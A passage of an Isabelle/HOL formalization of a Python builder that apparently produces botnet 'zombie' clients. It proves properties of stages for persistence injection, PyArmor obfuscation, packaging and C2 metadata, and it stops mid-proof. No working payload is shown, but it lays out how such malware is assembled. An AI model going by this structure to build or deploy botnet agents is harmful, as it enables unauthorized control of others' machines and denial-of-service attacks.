  "minimal_metadata b =
     [(''build_id'', JString (build_id b)),
      (''timestamp'', JString (build_timestamp b)),
      (''platform'', JString (platform b)),
      (''executable'', JString (last (final_executable b)))]"

text \<open>The payload section (lines 989-995).\<close>

definition payload_section :: "builder \<Rightarrow> path \<Rightarrow> nat \<Rightarrow> json" where
  "payload_section b p n =
     JObject
       [(''source'', JString (if p = [] then [] else last p)),
        (''size'', JInt (int n)),
        (''technique'', JString (payload_technique b)),
        (''delay'', JInt (payload_delay b))]"

text \<open>
  \<^verbatim>\<open>_generate_metadata\<close> (lines 955-1011). The text \<^verbatim>\<open>json.dump\<close> writes is ASCII, so
  writing it cannot fail on encoding.
\<close>

definition generate_metadata :: "env \<Rightarrow> builder \<Rightarrow> (string \<times> json) list io" where
  "generate_metadata e b =
     seq (logger INFO ''Generating build metadata...'')
       (try_except
          (bind (try_except
                   (bind (read_text (modified_source b)) (\<lambda>source_content.
                      ret (search_zombie_id source_content)))
                   (\<lambda>x. ret None)) (\<lambda>found.
           bind (case payload_path b of
                   None \<Rightarrow>
                     ret (full_metadata e b
                            (case found of Some z \<Rightarrow> z | None \<Rightarrow> ''unknown_'' @ build_id b))
                 | Some p \<Rightarrow>
                     if platform b = ''windows''
                     then bind (getsize (dir_size e) p) (\<lambda>n.
                            ret (full_metadata e b
                                   (case found of Some z \<Rightarrow> z | None \<Rightarrow> ''unknown_'' @ build_id b)
                                 @ [(''payload'', payload_section b p n)]))
                     else ret (full_metadata e b
                                 (case found of Some z \<Rightarrow> z | None \<Rightarrow> ''unknown_'' @ build_id b)))
             (\<lambda>metadata.
           seq (write_file (metadata_file b) (json_dumps e (JObject metadata)))
          (seq (logger INFO (''Metadata saved to: '' @ show_path (metadata_file b)))
             (ret metadata)))))
          (\<lambda>x. seq (logger ERROR ''Failed to generate metadata: '')
                (seq (logger ERROR traceback) (ret (minimal_metadata b)))))"

section \<open>The orchestrator and the entry point\<close>

text \<open>\<^verbatim>\<open>build\<close> (lines 1013-1051): the result is the pair \<^verbatim>\<open>(success, metadata)\<close>.\<close>

definition build :: "env \<Rightarrow> builder \<Rightarrow> (bool \<times> (string \<times> json) list option) io" where
  "build e b =
     seq (logger INFO (''Starting build process for '' @ platform b @ '' platform''))
    (seq (logger INFO (''Build ID: '' @ build_id b))
    (bind (check_dependencies e b) (\<lambda>checked.
     if \<not> checked
     then seq (logger ERROR ''Dependency check failed, aborting build'') (ret (False, None))
     else
    bind (prepare_build_environment e b) (\<lambda>prepared.
     if \<not> prepared
     then seq (logger ERROR ''Failed to prepare build environment, aborting build'')
            (ret (False, None))
     else
    bind (modify_source_code e b) (\<lambda>modified.
     if \<not> modified
     then seq (logger ERROR ''Failed to modify source code, aborting build'') (ret (False, None))
     else
    bind (obfuscate_code e b) (\<lambda>obfuscated.
     if \<not> obfuscated
     then seq (logger ERROR ''Code obfuscation failed, aborting build'') (ret (False, None))
     else
    bind (compile_executable e b) (\<lambda>compiled.
     if \<not> compiled
     then seq (logger ERROR ''Compilation failed, aborting build'') (ret (False, None))
     else
    bind (generate_metadata e b) (\<lambda>metadata.
    bind (clean_up b) (\<lambda>cleaned.
     seq (logger INFO (''Build process completed successfully for '' @ platform b))
    (seq (logger INFO (''Executable: '' @ show_path (final_executable b)))
       (ret (True, Some metadata))))))))))))"

text \<open>
  The success branch of \<^verbatim>\<open>main\<close> (lines 1097-1112): the values it reads from the
  metadata, in order; a subscript with a missing key raises KeyError.
\<close>

definition subscript :: "(string \<times> json) list \<Rightarrow> string \<Rightarrow> exn + json" where
  "subscript d k = (case map_of d k of None \<Rightarrow> Inl KeyError | Some v \<Rightarrow> Inr v)"

fun subscripts :: "(string \<times> json) list \<Rightarrow> string list \<Rightarrow> exn + json list" where
  "subscripts d [] = Inr []"
| "subscripts d (k # ks) =
     (case subscript d k of
        Inl x \<Rightarrow> Inl x
      | Inr v \<Rightarrow> (case subscripts d ks of Inl x \<Rightarrow> Inl x | Inr vs \<Rightarrow> Inr (v # vs)))"

definition print_summary :: "(string \<times> json) list \<Rightarrow> exn + json list" where
  "print_summary metadata =
     (case subscripts metadata
             [''platform'', ''build_id'', ''zombie_id'', ''executable'', ''server_url''] of
        Inl x \<Rightarrow> Inl x
      | Inr vs \<Rightarrow>
          (case map_of metadata ''payload'' of
             Some (JObject p) \<Rightarrow>
               (case subscripts p [''source'', ''size'', ''technique'', ''delay''] of
                  Inl x \<Rightarrow> Inl x
                | Inr ws \<Rightarrow>
                    (case subscript metadata ''executable'' of
                       Inl x \<Rightarrow> Inl x | Inr v \<Rightarrow> Inr (vs @ ws @ [v])))
           | _ \<Rightarrow>
               (case subscript metadata ''executable'' of
                  Inl x \<Rightarrow> Inl x | Inr v \<Rightarrow> Inr (vs @ [v]))))"


section \<open>Example worlds\<close>

text \<open>
  A host with every tool installed, where the obfuscator and the packager succeed and
  leave the expected files; the library functions outside the model are stand-ins.
\<close>

definition host_env :: env where
  "host_env =
     \<lparr>python_version_tuple = (3, 11, Some 4), host_python_version = ''3.11.4'',
      host_system = ''Linux'', host_release = ''6.1'', host_machine = ''x86_64'',
      pyarmor_probe = Probed, pyinstaller_probe = Probed, upx_probe = Probed,
      pyarmor_run = Tool_run [(''zombie_1a2b3c4d.py'', ''obf'')] (Returns 0),
      pyarmor_stdout = [], pyarmor_stderr = [],
      pyinstaller_run = Tool_run [(''zombie_linux_20240101120000'', ''ELF'')] (Returns 0),
      pyinstaller_lines = [],
      zombie_uuid_hex = ''0a1b2c3d'', now_isoformat = ''2024-01-01T12:00:00'',
      dir_size = 4096, group_ref = (\<lambda>n. None), zlib_compress = (\<lambda>x. x),
      spec_text = (\<lambda>b u p l. ''spec''), json_dumps = (\<lambda>j. ''{}'')\<rparr>"

text \<open>The same host without the obfuscation tool and without UPX.\<close>

definition bare_env :: env where
  "bare_env =
     host_env\<lparr>pyarmor_probe := Probe_fails FileNotFoundError,
              upx_probe := Probe_fails FileNotFoundError,
              pyarmor_run := Tool_run [] (Raises FileNotFoundError)\<rparr>"

text \<open>A host running Python 3.6, whose packager produces a Windows executable.\<close>

definition legacy_env :: env where
  "legacy_env =
     host_env\<lparr>python_version_tuple := (3, 6, Some 9), host_python_version := ''3.6.9'',
              pyinstaller_run :=
                Tool_run [(''zombie_windows_20240101120000.exe'', ''MZ'')] (Returns 0)\<rparr>"

definition linux_builder :: builder where
  "linux_builder =
     \<lparr>platform = ''linux'', server_url = ''http://203.0.113.5:8080'',
      obfuscation_level = ''basic'', icon_path = None, payload_path = None,
      payload_delay = 30, payload_technique = ''direct'', debug = False,
      output_dir = [''w'', ''dist''], build_id = ''zombie_1a2b3c4d'',
      build_timestamp = ''20240101120000'', base_dir = [''w'']\<rparr>"

definition windows_builder :: builder where
  "windows_builder =
     linux_builder\<lparr>platform := ''windows'', payload_path := Some [''w'', ''p.bat'']\<rparr>"

text \<open>An agent source with the literals the customizer looks for, but no main function.\<close>

definition agent_source :: string where
  \<open>agent_source =
     unlines
       [''import os'',
        ''SERVER_URL = "http://127.0.0.1:5000"'',
        ''ZOMBIE_ID = f"zombie_{uuid.uuid4().hex[:8]}"'',
        ''CHECK_IN_INTERVAL = 300'',
        ''COMMAND_POLL_INTERVAL = 30'']\<close>

text \<open>
  The working directory \<^verbatim>\<open>/w\<close> with the two input files and a payload script; nothing
  has been built yet.
\<close>

definition start_state :: state where
  "start_state =
     \<lparr>use_upx = False, payload_data = None,
      files = [([''w'', ''zombie.py''], agent_source),
               ([''w'', ''dos_module.py''], ''pass''),
               ([''w'', ''p.bat''], ''echo hi'')],
      dirs = [[], [''w'']], cwd = [''w''], log = []\<rparr>"

text \<open>
  The state in which the customizer runs: the directories made and a source \<open>src\<close>
  staged in the preparation directory.
\<close>

definition staged_state :: "string \<Rightarrow> state" where
  "staged_state src =
     \<lparr>use_upx = False, payload_data = None,
      files = [([''w'', ''zombie.py''], src),
               ([''w'', ''dos_module.py''], ''pass''),
               ([''w'', ''build'', ''prep'', ''zombie.py''], src),
               ([''w'', ''build'', ''prep'', ''dos_module.py''], ''pass'')],
      dirs = [[], [''w''], [''w'', ''build''], [''w'', ''build'', ''prep''],
              [''w'', ''build'', ''obfuscate''], [''w'', ''build'', ''compile''],
              [''w'', ''dist'']],
      cwd = [''w''], log = []\<rparr>"

section \<open>Stages, traces and invariants\<close>

text \<open>
  Every stage method begins with one INFO record of its own; the stages a run has
  entered are read off the log.
\<close>

datatype stage =
  Dependency_check | Environment_preparation | Source_customization | Obfuscation |
  Compilation | Metadata_generation | Cleanup

definition stage_order :: "stage list" where
  "stage_order =
     [Dependency_check, Environment_preparation, Source_customization, Obfuscation,
      Compilation, Metadata_generation, Cleanup]"

definition stage_started :: "level \<times> string \<Rightarrow> stage option" where
  "stage_started r =
     (if fst r \<noteq> INFO then None
      else if snd r = ''Checking dependencies...'' then Some Dependency_check
      else if snd r = ''Preparing build environment...'' then Some Environment_preparation
      else if snd r = ''Customizing source code...'' then Some Source_customization
      else if prefix ''Obfuscating code with '' (snd r) then Some Obfuscation
      else if prefix ''Compiling executable for '' (snd r) then Some Compilation
      else if snd r = ''Generating build metadata...'' then Some Metadata_generation
      else if snd r = ''Cleaning up build artifacts...'' then Some Cleanup
      else None)"

fun stages_run :: "(level \<times> string) list \<Rightarrow> stage list" where
  "stages_run [] = []"
| "stages_run (r # rs) =
     (case stage_started r of None \<Rightarrow> stages_run rs | Some k \<Rightarrow> k # stages_run rs)"

text \<open>The records a run has added to the log.\<close>

definition logged :: "state \<Rightarrow> state \<Rightarrow> (level \<times> string) list" where
  "logged s t = drop (length (log s)) (log t)"

text \<open>
  \<open>steps R m\<close>: every run of \<open>m\<close>, normal or exceptional, takes a state to one related
  to it by \<open>R\<close>. \<open>returns m\<close>: \<open>m\<close> never lets an exception out.
\<close>

definition steps :: "(state \<Rightarrow> state \<Rightarrow> bool) \<Rightarrow> 'a io \<Rightarrow> bool" where
  "steps R m = (\<forall>s. R s (snd (m s)))"

definition returns :: "'a io \<Rightarrow> bool" where
  "returns m = (\<forall>s. \<exists>a. fst (m s) = Inr a)"

text \<open>The log only grows, by records that start no stage.\<close>

definition quiet :: "state \<Rightarrow> state \<Rightarrow> bool" where
  "quiet s t = (\<exists>l. log t = log s @ l \<and> stages_run l = [])"

text \<open>No file outside the directory trees \<open>roots\<close> changes.\<close>

definition under :: "path list \<Rightarrow> path \<Rightarrow> bool" where
  "under roots p = list_ex (\<lambda>d. prefix d p) roots"

definition frame :: "path list \<Rightarrow> state \<Rightarrow> state \<Rightarrow> bool" where
  "frame roots s t = (\<forall>p. \<not> under roots p \<longrightarrow> map_of (files t) p = map_of (files s) p)"

text \<open>No directory outside the tree \<open>root\<close> disappears.\<close>

definition keeps_dirs :: "path \<Rightarrow> state \<Rightarrow> state \<Rightarrow> bool" where
  "keeps_dirs root s t = (\<forall>d. is_dir s d \<and> \<not> prefix root d \<longrightarrow> is_dir t d)"

section \<open>base64 round trip\<close>












section \<open>Dependency verification\<close>

lemmas io_defs = bind_def seq_def ret_def raise_exc_def try_except_def try_finally_def
  get_state_def logger_def set_use_upx_def set_payload_data_def getcwd_def

lemmas world_defs = host_env_def bare_env_def legacy_env_def linux_builder_def
  windows_builder_def start_state_def

lemmas path_defs = build_dir_def prep_dir_def obfuscate_dir_def compile_dir_def
  source_file_path_def dos_module_path_def modified_source_def payload_module_def
  obfuscated_file_def final_executable_def metadata_file_def pyarmor_work_dir_def
  executable_name_def file_extension_def get_file_extension_def
  SOURCE_FILE_def DOS_MODULE_FILE_def BUILD_DIR_def

lemmas check_defs = check_dependencies_def check_pyarmor_def check_pyinstaller_def
  check_upx_def check_inputs_def check_payload_def





text \<open>
  C2, as amended. When the version query of the obfuscation tool fails (and the
  interpreter's version passed), the verifier logs an error and returns failure at
  once: nothing but the log changes, so none of the remaining checks (packaging tool,
  UPX, input files, icon, payload) is performed. A missing tool gives the PyArmor
  error record; any other failure of the query gives the records of the outer handler.
\<close>

theorem pyarmor_failure_aborts:
  assumes "python_version_tuple e = (major, minor, Some micro)"
    and "\<not> version_lt (major, minor, micro) (3, 6, 0)"
    and "pyarmor_probe e = Probe_fails x"
  shows "check_dependencies e b s =
     (Inr False,
      s\<lparr>log := log s @ (INFO, ''Checking dependencies...'') #
         (if tool_missing x
          then [(ERROR, ''PyArmor not found. Install with: pip install pyarmor'')]
          else [(ERROR, ''Dependency check failed: ''), (ERROR, traceback)])\<rparr>)"
  using assms by (simp add: check_dependencies_def check_pyarmor_def io_defs)

theorem pyarmor_failure_aborts_witness:
  "check_dependencies bare_env linux_builder start_state =
     (Inr False,
      start_state\<lparr>log := [(INFO, ''Checking dependencies...''),
         (ERROR, ''PyArmor not found. Install with: pip install pyarmor'')]\<rparr>)"
  using pyarmor_failure_aborts[of bare_env 3 11 4 FileNotFoundError linux_builder start_state]
  by (simp add: world_defs version_lt_def tool_missing_def)

text \<open>
  C2 as stated fails: on a host without the obfuscation tool and without UPX, with UPX
  requested, the verifier stops after the PyArmor error. Had the UPX check been
  performed, it would have cleared the flag and logged a warning, as it does when run
  on the same state; after the verifier the flag is still set and the log holds two
  records.
\<close>

theorem remaining_checks_skipped:
  "check_dependencies bare_env linux_builder (start_state\<lparr>use_upx := True\<rparr>) =
     (Inr False,
      start_state\<lparr>use_upx := True,
         log := [(INFO, ''Checking dependencies...''),
                 (ERROR, ''PyArmor not found. Install with: pip install pyarmor'')]\<rparr>) \<and>
   use_upx (snd (check_upx bare_env linux_builder (start_state\<lparr>use_upx := True\<rparr>))) = False \<and>
   log (snd (check_upx bare_env linux_builder (start_state\<lparr>use_upx := True\<rparr>))) =
     [(WARNING, ''UPX not found, continuing without compression''),
      (INFO, ''All dependencies satisfied'')]"
  by (simp add: check_defs io_defs world_defs version_lt_def tool_missing_def path_exists_def
      is_file_def is_dir_def path_defs)












section \<open>Replacement templates\<close>

text \<open>
  Whether the two persistence texts are accepted as replacement templates: the Unix one
  always, the Windows one only before Python 3.7, where a backslash before \<^verbatim>\<open>M\<close> is
  not yet an error.
\<close>

lemma parse_None_plain:
  "c \<noteq> CHR 0x5C \<Longrightarrow>
   (parse_template st gr n 0 (c # cs) = None) = (parse_template st gr n 0 cs = None)"
  by simp

lemma parse_None_escape:
  "(parse_template st gr n 0 (CHR 0x5C # cs) = None) =
     (case escape st gr n cs of
        None \<Rightarrow> True
      | Some (items, used) \<Rightarrow> parse_template st gr n used cs = None)"
  by (simp split: option.splits)

lemma parse_skip: "parse_template st gr n (Suc k) (c # cs) = parse_template st gr n k cs"
  by simp

lemma parse_Nil: "(parse_template st gr n k [] = None) = False"
  by simp

lemmas parse_eval = parse_None_plain parse_None_escape parse_skip parse_Nil

lemma escape_letter:
  "escape st gr n (CHR ''n'' # cs) = Some ([Lit (CHR 0x0A)], 1)"
  "escape True gr n (CHR ''M'' # cs) = None"
  "escape False gr n (CHR ''M'' # cs) = Some ([Lit (CHR 0x5C), Lit (CHR ''M'')], 1)"
  "escape False gr n (CHR ''W'' # cs) = Some ([Lit (CHR 0x5C), Lit (CHR ''W'')], 1)"
  "escape False gr n (CHR ''C'' # cs) = Some ([Lit (CHR 0x5C), Lit (CHR ''C'')], 1)"
  "escape False gr n (CHR ''R'' # cs) = Some ([Lit (CHR 0x5C), Lit (CHR ''R'')], 1)"
  by (simp_all add: escape_def simple_escape_def is_digit_def is_ascii_letter_def)

lemma unix_template_parses:
  "parse_template st gr 0 0 (unix_persistence_code @ CHR 0x0A # ''def main():'') \<noteq> None"
  unfolding unix_persistence_code_def unlines_def
  by (simp del: parse_template.simps add: parse_eval escape_letter)

lemma windows_template_rejected:
  "parse_template True gr 0 0 (windows_persistence_code @ CHR 0x0A # ''def main():'') = None"
  unfolding windows_persistence_code_def unlines_def
  by (simp del: parse_template.simps add: parse_eval escape_letter)

lemma windows_template_parses:
  "parse_template False gr 0 0 (windows_persistence_code @ CHR 0x0A # ''def main():'') \<noteq> None"
  unfolding windows_persistence_code_def unlines_def
  by (simp del: parse_template.simps add: parse_eval escape_letter)

lemma windows_template_escapes:
  "CHR 0x5C \<in> set (windows_persistence_code @ CHR 0x0A # ''def main():'')"
  unfolding windows_persistence_code_def unlines_def by simp

section \<open>Literal replacement and encodable text\<close>

text \<open>
  Replacing an ASCII literal in well-formed UTF-8 by well-formed UTF-8 leaves the text
  well formed, and so does the newline translation: no byte of a multi-byte character
  is ASCII.
\<close>

lemma replace_literal_absent:
  "\<not> contains pat s \<Longrightarrow> replace_literal 0 pat rep s = s"
  by (induction s) simp_all

lemma replace_literal_skip:
  "replace_literal k pat rep s = replace_literal 0 pat rep (drop k s)"
proof (induction s arbitrary: k)
  case Nil
  show ?case by simp
next
  case (Cons c cs)
  show ?case
  proof (cases k)
    case 0
    then show ?thesis by simp
  next
    case (Suc j)
    then show ?thesis using Cons.IH[of j] by simp
  qed
qed

lemma replace_literal_match:
  assumes "pat \<noteq> []"
  shows "replace_literal 0 pat rep (pat @ t) = rep @ replace_literal 0 pat rep t"
proof -
  obtain c cs where p: "pat = c # cs" using assms by (cases pat) auto
  have "replace_literal 0 pat rep (pat @ t) = rep @ replace_literal (length pat - 1) pat rep (cs @ t)"
    by (simp add: p)
  also have "replace_literal (length pat - 1) pat rep (cs @ t) = replace_literal 0 pat rep t"
    by (subst replace_literal_skip) (simp add: p)
  finally show ?thesis .
qed

lemma utf8_valid_ascii: "list_all (byte_in 0x00 0x7F) a \<Longrightarrow> utf8_valid a"
  by (induction a) simp_all

lemma utf8_second_high: "utf8_second a b \<Longrightarrow> \<not> byte_in 0x00 0x7F b"
  by (auto simp: utf8_second_def byte_in_def split: if_splits)

lemma ascii_no_prefix:
  "list_all (byte_in 0x00 0x7F) pat \<Longrightarrow> pat \<noteq> [] \<Longrightarrow> \<not> byte_in 0x00 0x7F x \<Longrightarrow>
   \<not> prefix pat (x # xs)"
  by (cases pat) auto

lemma cont_high: "byte_in 0x80 0xBF b \<Longrightarrow> \<not> byte_in 0x00 0x7F b"
  by (auto simp: byte_in_def)

lemma utf8_valid_append: "utf8_valid a \<Longrightarrow> utf8_valid (a @ b) = utf8_valid b"
proof (induction a rule: utf8_valid.induct)
  case 1
  show ?case by simp
next
  case (2 a cs)
  show ?case
  proof (cases "byte_in 0x00 0x7F a")
    case True
    then show ?thesis using 2 by simp
  next
    case n1: False
    show ?thesis
    proof (cases "byte_in 0xC2 0xDF a")
      case True
      then obtain x ds where "cs = x # ds" using 2(5) n1 by (cases cs) auto
      then show ?thesis using 2(2)[of x ds] 2(5) n1 True by simp
    next
      case n2: False
      show ?thesis
      proof (cases "byte_in 0xE0 0xEF a")
        case True
        then obtain x y es where "cs = x # y # es" using 2(5) n1 n2
          by (cases cs; cases "tl cs") auto
        then show ?thesis using 2(3)[of x "y # es" y es] 2(5) n1 n2 True by simp
      next
        case n3: False
        then have f: "byte_in 0xF0 0xF4 a" using 2(5) n1 n2 by (simp split: if_splits)
        then obtain x y z fs where "cs = x # y # z # fs" using 2(5) n1 n2 n3
          by (cases cs; cases "tl cs"; cases "tl (tl cs)") auto
        then show ?thesis using 2(4)[of x "y # z # fs" y "z # fs" z fs] 2(5) n1 n2 n3 f by simp
      qed
    qed
  qed
qed

lemma utf8_valid_ConsE:
  assumes "utf8_valid (a # cs)"
  obtains (one) "byte_in 0x00 0x7F a" "utf8_valid cs"
    | (two) b ds where "\<not> byte_in 0x00 0x7F a" "byte_in 0xC2 0xDF a" "cs = b # ds"
        "byte_in 0x80 0xBF b" "utf8_valid ds"
    | (three) b c es where "\<not> byte_in 0x00 0x7F a" "\<not> byte_in 0xC2 0xDF a"
        "byte_in 0xE0 0xEF a" "cs = b # c # es" "utf8_second a b" "byte_in 0x80 0xBF c"
        "utf8_valid es"
    | (four) b c d fs where "\<not> byte_in 0x00 0x7F a" "\<not> byte_in 0xC2 0xDF a"
        "\<not> byte_in 0xE0 0xEF a" "byte_in 0xF0 0xF4 a" "cs = b # c # d # fs"
        "utf8_second a b" "byte_in 0x80 0xBF c" "byte_in 0x80 0xBF d" "utf8_valid fs"
proof (cases "byte_in 0x00 0x7F a")
  case True
  then show ?thesis using assms one by simp
next
  case n1: False
  show ?thesis
  proof (cases "byte_in 0xC2 0xDF a")
    case True
    then obtain x ds where c: "cs = x # ds" using assms n1 by (cases cs) auto
    show ?thesis using two[of x ds] assms n1 True unfolding c by simp
  next
    case n2: False
    show ?thesis
    proof (cases "byte_in 0xE0 0xEF a")
      case True
      then obtain x y es where c: "cs = x # y # es" using assms n1 n2
        by (cases cs; cases "tl cs") auto
      show ?thesis using three[of x y es] assms n1 n2 True unfolding c by simp
    next
      case n3: False
      then have f: "byte_in 0xF0 0xF4 a" using assms n1 n2 by (simp split: if_splits)
      then obtain x y z fs where c: "cs = x # y # z # fs" using assms n1 n2 n3
        by (cases cs; cases "tl cs"; cases "tl (tl cs)") auto
      show ?thesis using four[of x y z fs] assms n1 n2 n3 f unfolding c by simp
    qed
  qed
qed

lemma replace_literal_valid:
  assumes pat: "list_all (byte_in 0x00 0x7F) pat" "pat \<noteq> []" and rep: "utf8_valid rep"
  shows "utf8_valid s \<Longrightarrow> utf8_valid (replace_literal 0 pat rep s)"
proof (induction s rule: length_induct)
  case (1 s)
  note IH = 1(1)[rule_format] and v = 1(2)
  show ?case
  proof (cases s)
    case Nil
    then show ?thesis by simp
  next
    case (Cons a cs)
    show ?thesis
    proof (cases "prefix pat s")
      case True
      then obtain t where t: "s = pat @ t" by (auto simp: prefix_def)
      have vt: "utf8_valid t" using v t utf8_valid_append[OF utf8_valid_ascii[OF pat(1)]] by simp
      have "length t < length s" using t pat(2) by simp
      then have "utf8_valid (replace_literal 0 pat rep t)" using IH vt by blast
      then show ?thesis
        unfolding t replace_literal_match[OF pat(2)] using utf8_valid_append[OF rep] by simp
    next
      case False
      note np = ascii_no_prefix[OF pat]
      have r: "replace_literal 0 pat rep s = a # replace_literal 0 pat rep cs"
        using False Cons by simp
      from v[unfolded Cons] show ?thesis
      proof (cases rule: utf8_valid_ConsE)
        case one
        have "utf8_valid (replace_literal 0 pat rep cs)" using IH[of cs] one Cons by simp
        then show ?thesis unfolding r using one by simp
      next
        case (two b ds)
        have "utf8_valid (replace_literal 0 pat rep ds)" using IH[of ds] two Cons by simp
        moreover have "replace_literal 0 pat rep cs = b # replace_literal 0 pat rep ds"
          unfolding two(3) using np[OF cont_high[OF two(4)]] by simp
        ultimately show ?thesis unfolding r using two by simp
      next
        case (three b c es)
        have "utf8_valid (replace_literal 0 pat rep es)" using IH[of es] three Cons by simp
        moreover have "replace_literal 0 pat rep cs = b # c # replace_literal 0 pat rep es"
          unfolding three(4)
          using np[OF utf8_second_high[OF three(5)]] np[OF cont_high[OF three(6)]] by simp
        ultimately show ?thesis unfolding r using three by simp
      next
        case (four b c d fs)
        have "utf8_valid (replace_literal 0 pat rep fs)" using IH[of fs] four Cons by simp
        moreover have "replace_literal 0 pat rep cs = b # c # d # replace_literal 0 pat rep fs"
          unfolding four(5)
          using np[OF utf8_second_high[OF four(6)]] np[OF cont_high[OF four(7)]]
            np[OF cont_high[OF four(8)]] by simp
        ultimately show ?thesis unfolding r using four by simp
      qed
    qed
  qed
qed

lemma universal_newlines_Cons:
  "c \<noteq> CHR 0x0D \<Longrightarrow> universal_newlines (c # cs) = c # universal_newlines cs"
  by (cases cs) simp_all

lemma universal_newlines_CR:
  "universal_newlines (CHR 0x0D # cs) =
     (if prefix [CHR 0x0A] cs then universal_newlines cs else CHR 0x0A # universal_newlines cs)"
proof (cases cs)
  case Nil
  then show ?thesis by simp
next
  case (Cons d ds)
  show ?thesis
  proof (cases "d = CHR 0x0A")
    case True
    have "universal_newlines (CHR 0x0A # ds) = CHR 0x0A # universal_newlines ds"
      by (rule universal_newlines_Cons) simp
    then show ?thesis unfolding Cons True by simp
  next
    case False
    then show ?thesis unfolding Cons by simp
  qed
qed

lemma high_not_CR: "\<not> byte_in 0x00 0x7F c \<Longrightarrow> c \<noteq> CHR 0x0D"
  by (auto simp: byte_in_def)

lemma universal_newlines_valid: "utf8_valid s \<Longrightarrow> utf8_valid (universal_newlines s)"
proof (induction s rule: length_induct)
  case (1 s)
  note IH = 1(1)[rule_format] and v = 1(2)
  show ?case
  proof (cases s)
    case Nil
    then show ?thesis by simp
  next
    case (Cons a cs)
    from v[unfolded Cons] show ?thesis
    proof (cases rule: utf8_valid_ConsE)
      case one
      have c: "utf8_valid (universal_newlines cs)" using IH[of cs] one Cons by simp
      show ?thesis
      proof (cases "a = CHR 0x0D")
        case True
        have "universal_newlines s =
            (if prefix [CHR 0x0A] cs then universal_newlines cs
             else CHR 0x0A # universal_newlines cs)"
          unfolding Cons True by (rule universal_newlines_CR)
        moreover have "utf8_valid (CHR 0x0A # universal_newlines cs)"
          using c by (simp add: byte_in_def)
        ultimately show ?thesis using c by (simp del: utf8_valid.simps)
      next
        case False
        then show ?thesis unfolding Cons universal_newlines_Cons[OF False] using c one by simp
      qed
    next
      case (two b ds)
      have "utf8_valid (universal_newlines ds)" using IH[of ds] two Cons by simp
      moreover have "universal_newlines s = a # b # universal_newlines ds"
        by (simp only: Cons two(3) universal_newlines_Cons[OF high_not_CR[OF two(1)]]
          universal_newlines_Cons[OF high_not_CR[OF cont_high[OF two(4)]]])
      ultimately show ?thesis using two by simp
    next
      case (three b c es)
      have "utf8_valid (universal_newlines es)" using IH[of es] three Cons by simp
      moreover have "universal_newlines s = a # b # c # universal_newlines es"
        by (simp only: Cons three(4) universal_newlines_Cons[OF high_not_CR[OF three(1)]]
          universal_newlines_Cons[OF high_not_CR[OF utf8_second_high[OF three(5)]]]
          universal_newlines_Cons[OF high_not_CR[OF cont_high[OF three(6)]]])
      ultimately show ?thesis using three by simp
    next
      case (four b c d fs)
      have "utf8_valid (universal_newlines fs)" using IH[of fs] four Cons by simp
      moreover have "universal_newlines s = a # b # c # d # universal_newlines fs"
        by (simp only: Cons four(5) universal_newlines_Cons[OF high_not_CR[OF four(1)]]
          universal_newlines_Cons[OF high_not_CR[OF utf8_second_high[OF four(6)]]]
          universal_newlines_Cons[OF high_not_CR[OF cont_high[OF four(7)]]]
          universal_newlines_Cons[OF high_not_CR[OF cont_high[OF four(8)]]])
      ultimately show ?thesis using four by simp
    qed
  qed
qed

section \<open>Source customization\<close>

lemma re_sub_literal_plain:
  "CHR 0x5C \<notin> set repl \<Longrightarrow>
   re_sub_literal st gr pat repl src s = (Inr (replace_literal 0 pat repl src), s)"
  by (simp add: re_sub_literal_def ret_def)

lemma re_sub_literal_state: "snd (re_sub_literal st gr pat repl src s) = s"
  by (simp add: re_sub_literal_def ret_def raise_exc_def split: option.splits)

lemma re_sub_literal_absent:
  "\<not> contains pat src \<Longrightarrow> parse_template st gr 0 0 repl \<noteq> None \<Longrightarrow>
   re_sub_literal st gr pat repl src s = (Inr src, s)"
  by (auto simp add: re_sub_literal_def ret_def replace_literal_absent split: option.splits)

lemma read_text_state: "snd (read_text p s) = s"
  by (simp add: read_text_def read_file_def io_defs split: option.splits)

lemma read_text_file:
  "map_of (files s) p = Some bytes \<Longrightarrow> utf8_valid bytes \<Longrightarrow>
   read_text p s = (Inr (universal_newlines bytes), s)"
  by (simp add: read_text_def read_file_def io_defs)

lemma write_text_file:
  "utf8_valid text \<Longrightarrow> p \<noteq> [] \<Longrightarrow> is_dir s (butlast p) \<Longrightarrow> \<not> is_dir s p \<Longrightarrow>
   write_text p text s = (Inr (), s\<lparr>files := AList.update p text (files s)\<rparr>)"
  by (simp add: write_text_def write_file_def)

text \<open>On Windows with Python 3.7 or later the persistence text is rejected.\<close>

lemma inject_persistence_windows_strict:
  "platform b = ''windows'' \<Longrightarrow> re_strict e \<Longrightarrow>
   inject_persistence e b src s = (Inl ReError, s)"
  using windows_template_escapes windows_template_rejected[of "group_ref e"]
  by (simp add: inject_persistence_def re_sub_literal_def io_defs del: set_append)

lemma re_sub_literal_pair: "\<exists>r. re_sub_literal st gr pat repl src s = (r, s)"
  by (simp add: re_sub_literal_def ret_def raise_exc_def split: option.splits)

lemma inject_persistence_pair: "\<exists>r. inject_persistence e b src s = (r, s)"
proof -
  obtain r where r: "re_sub_literal (re_strict e) (group_ref e) ''def main():''
      (windows_persistence_code @ CHR 0x0A # ''def main():'') src s = (r, s)"
    using re_sub_literal_pair by blast
  obtain r' where r': "re_sub_literal (re_strict e) (group_ref e) ''def main():''
      (unix_persistence_code @ CHR 0x0A # ''def main():'') src s = (r', s)"
    using re_sub_literal_pair by blast
  show ?thesis using r r'
    by (cases r) (simp_all add: inject_persistence_def io_defs)
qed

lemma read_text_pair: "\<exists>r. read_text p s = (r, s)"
  by (simp add: read_text_def read_file_def io_defs split: option.splits)

lemma seq_logger: "seq (logger lv msg) n s = n (s\<lparr>log := log s @ [(lv, msg)]\<rparr>)"
  by (simp add: io_defs)

lemma bind_pure_fails:
  assumes "\<exists>r. m s = (r, s)" and "\<And>a. \<exists>x. f a s = (Inl x, s)"
  shows "\<exists>x. bind m f s = (Inl x, s)"
proof -
  obtain r where r: "m s = (r, s)" using assms(1) by blast
  show ?thesis using r assms(2) by (cases r) (simp_all add: bind_def)
qed

lemma try_except_fails:
  assumes "\<exists>x. m s = (Inl x, s)" and "\<And>x. h x s = r"
  shows "try_except m h s = r"
  using assms by (auto simp: try_except_def)

lemma modify_source_code_windows_strict:
  assumes "platform b = ''windows''" and "re_strict e"
  shows "modify_source_code e b s =
     (Inr False,
      s\<lparr>log := log s @ [(INFO, ''Customizing source code...''),
                          (ERROR, ''Failed to modify source code: ''), (ERROR, traceback)]\<rparr>)"
  unfolding modify_source_code_def seq_logger
  apply (rule try_except_fails)
   apply (rule bind_pure_fails, rule read_text_pair)
   apply (rule bind_pure_fails, rule re_sub_literal_pair)
